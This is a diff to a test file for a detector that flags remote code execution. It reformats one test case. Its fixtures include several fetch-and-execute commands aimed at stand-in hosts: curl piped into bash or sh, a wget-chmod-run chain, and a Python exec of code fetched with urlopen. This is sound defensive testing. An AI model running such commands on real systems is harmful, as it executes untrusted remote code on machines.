@@ -13,7 +13,11 @@ test('remote-execution rules', () => {
       { type: T, event: exec(['bash', '-c', 'bash <(curl -s http://198.51.100.9/i)']) },
       { type: T, event: exec(['sh', '-c', 'sh -c "$(curl -fsSL http://x/i)"']) },
       { type: T, rule: 'Downloaded file made executable and run', event: exec(['sh', '-c', 'wget http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m']) },
-      { type: T, rule: 'Interpreter executing downloaded code', event: exec(['python3', '-c', 'import urllib.request;exec(urllib.request.urlopen("http://x/p").read())']) },
+      {
+        type: T,
+        rule: 'Interpreter executing downloaded code',
+        event: exec(['python3', '-c', 'import urllib.request;exec(urllib.request.urlopen("http://x/p").read())']),
+      },
     ],
     silent: [
       { event: exec(['sh', '-c', 'curl -fsSL -o /tmp/file.tar.gz https://example.com/file.tar.gz']) },
